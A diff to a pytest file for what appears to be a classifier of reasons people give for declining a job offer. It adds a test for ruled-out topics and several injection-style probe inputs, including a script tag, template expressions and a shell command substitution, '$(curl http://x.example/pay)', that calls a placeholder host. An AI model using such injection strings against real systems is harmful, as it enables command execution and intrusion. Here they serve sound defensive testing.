@@ -52,12 +52,23 @@ def test_a_topic_that_is_ruled_out_is_no_reason(reader: Reader) -> None:
     assert "compensation" not in found[:3]
 
 
+def test_topics_that_are_ruled_out_one_after_another_leave_no_reason(reader: Reader) -> None:
+    assert offered(reader, "It isn't the pay. It isn't the boss either.") == []
+    assert (
+        offered(reader, "Not the pay, not the boss. I'm taking another offer.")[0] == "accepted_other_offer"
+    )
+
+
 def test_praise_before_a_turn_is_no_reason(reader: Reader) -> None:
     assert offered(reader, "Great salary but the drive is far too long")[0] == "location_commute"
 
 
 @pytest.mark.parametrize(
-    "text", ["", "   ", "👎", "hello", "idk just no", "help me write this please", "{{7*7}}"]
+    "text",
+    [
+        *("", "   ", "👎", "hello", "idk just no", "help me write this please"),
+        *("{{7*7}}", "<script>alert('salary')</script>", "${offer.boss}", "$(curl http://x.example/pay)"),
+    ],
 )
 def test_a_text_without_a_ground_gets_no_suggestion(reader: Reader, text: str) -> None:
     assert not reader.read(text).is_reason
